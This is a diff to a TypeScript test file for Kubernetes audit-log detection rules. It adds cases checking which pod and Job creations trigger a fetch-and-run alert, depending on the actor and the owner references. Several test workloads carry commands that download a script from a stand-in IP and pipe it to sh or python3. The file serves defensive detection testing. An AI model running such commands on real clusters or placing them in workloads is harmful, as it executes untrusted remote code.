@@ -12,6 +12,7 @@ import { decideAuditLines } from './audit-rules.test-support.js';
 const WORKLOAD_RULES: ReadonlySet<string> = new Set(['MLS-RAY-033', 'MLS-RAY-034', 'MLS-RAY-035', 'MLS-RAY-036', 'MLS-POISON-013', 'MLS-EXFIL-049', 'MLS-EXFIL-039']);
 const ALICE = { username: 'oidc:alice@corp.example', groups: ['system:authenticated'] };
 const JOB_CONTROLLER = { username: 'system:serviceaccount:kube-system:job-controller', groups: [] };
+const CI_DEPLOYER = { username: 'system:serviceaccount:ci:deployer', groups: ['system:serviceaccounts', 'system:serviceaccounts:ci'] };
 const RS_CONTROLLER = { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: [] };
 const CKPT = { name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' } };
 
@@ -28,6 +29,9 @@ function write(verb: string, resource: string, body: Record<string, unknown> | u
   });
 }
 const pod = (spec: Record<string, unknown>): Record<string, unknown> => ({ kind: 'Pod', apiVersion: 'v1', spec });
+/** A controlling owner reference, as the ReplicaSet, Job and other controllers write it into the pods they make. */
+const ownedBy = (apiVersion: string, kind: string, name: string): Record<string, unknown> => ({ apiVersion, kind, name, uid: '5b0c6c1e-0000-4000-8000-000000000001', controller: true, blockOwnerDeletion: true });
+const fetchAndRunPod = pod({ initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] });
 const templated = (kind: string, spec: Record<string, unknown>): Record<string, unknown> => ({ kind, spec: { template: { spec } } });
 
 describe('workload rules through the real audit reader', () => {
@@ -105,8 +109,13 @@ describe('workload rules through the real audit reader', () => {
       // the ReplicaSet controller's pod from that template, and a Job that fetches a dataset and runs the image's own trainer (left).
       write('create', 'deployments', templated('Deployment', { initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] }), 201, ALICE, 'apps'),
       write('create', 'rayjobs', { kind: 'RayJob', spec: { entrypoint: 'wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x' } }, 201, ALICE, 'ray.io'),
-      write('create', 'pods', pod({ initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] }), 201, RS_CONTROLLER),
+      write('create', 'pods', { ...fetchAndRunPod, metadata: { name: 'w-7d9f-x2', ownerReferences: [ownedBy('apps/v1', 'ReplicaSet', 'w-7d9f')] } }, 201, RS_CONTROLLER),
       write('create', 'jobs', templated('Job', { containers: [{ name: 't', image: 'corp/llama-ft:1.4', command: ['sh', '-c', 'curl -fsSL -o /data/d.tgz https://data.corp.example/d.tgz && tar xzf /data/d.tgz -C /data && python train.py --data /data/d'] }] }), 201, ALICE, 'batch'),
+      // A CI service account's Job that fetches and runs code (MLS-RAY-036): no controller made it; the Job controller's pod of it (left);
+      // a person's pod naming a controlling owner in its own body (MLS-RAY-036: only a system actor's owner reference counts).
+      write('create', 'jobs', templated('Job', { containers: [{ name: 't', image: 'python:3.12', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/s.py | python3'] }] }), 201, CI_DEPLOYER, 'batch'),
+      write('create', 'pods', { ...pod({ containers: [{ name: 't', image: 'python:3.12', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/s.py | python3'] }] }), metadata: { name: 'j-x', ownerReferences: [ownedBy('batch/v1', 'Job', 'j')] } }, 201, JOB_CONTROLLER),
+      write('create', 'pods', { ...fetchAndRunPod, metadata: { name: 'p', ownerReferences: [ownedBy('apps/v1', 'ReplicaSet', 'w-7d9f')] } }),
     ];
     const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
     expect(got).toEqual([
@@ -123,6 +132,9 @@ describe('workload rules through the real audit reader', () => {
       '11 rayjobs MLS-RAY-036 alert',
       '12 pods -',
       '13 jobs -',
+      '14 jobs MLS-RAY-036 alert',
+      '15 pods -',
+      '16 pods MLS-RAY-036 alert',
     ]);
   });
 
